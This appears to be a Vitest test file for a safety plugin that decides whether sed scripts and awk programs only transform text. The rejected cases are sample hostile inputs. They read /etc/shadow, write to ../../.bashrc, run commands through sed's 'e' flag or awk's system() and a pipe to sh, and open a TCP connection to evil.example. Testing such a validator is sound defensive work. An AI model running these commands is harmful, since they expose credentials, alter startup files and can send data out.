import { expect, test } from 'vitest'
import { isHarmlessAwk, isHarmlessSed } from '../../../../plugins/safety/command-knowledge/small-languages.ts'

test.each([
  's/a/b/g',
  '10,20p',
  '/start/,/end/d',
  '1~2p;$!d',
  's#/old/#/new/#',
  'y/abc/xyz/',
  ':a;N;$!ba;s/x/y/',
  '/x/{s/a/b/;p}',
])('sed may %s', (script) => {
  expect(isHarmlessSed(script)).toBe(true)
})

test.each([
  'w out',
  '1w ../../.bashrc',
  's/a/b/w out',
  's/a/b/gw out',
  'e id',
  '1e',
  's/a/id/e',
  's/a/id/ge',
  'r /etc/shadow',
  'R x',
  'W x',
  'F;e',
  '/x/{e id',
  '{s/a/b/;w x',
  's/a/b/;e id',
  'p\ne id',
  's/[/]/x/e',
])('sed does more than change text: %j', (script) => {
  expect(isHarmlessSed(script)).toBe(false)
})

test.each([
  '{ print $1 }',
  'NR > 1 { s += $2 } END { print s / NR }',
  '/a|b/ { n++ } END { print n }',
  '$2 > 10 || $3 < 5 { print "a > b | c" }',
  'BEGIN { printf "%s\\n", "system" }',
])('awk may %s', (program) => {
  expect(isHarmlessAwk(program)).toBe(true)
})

test.each([
  'BEGIN { system("id") }',
  'BEGIN { "id" | getline x }',
  'BEGIN { while ((getline line < "/etc/shadow") > 0) print line }',
  '{ print > "out" }',
  '{ print >> "out" }',
  '{ printf "%s", $1 > "out" }',
  '{ print | "sh" }',
  'BEGIN { print ENVIRON["HOME"] }',
  'BEGIN { close("x") }',
  '@load "filefuncs"',
  'BEGIN { s = "/inet/tcp/0/evil.example/80"; print 1 |& s }',
])('awk does more than change text: %s', (program) => {
  expect(isHarmlessAwk(program)).toBe(false)
})
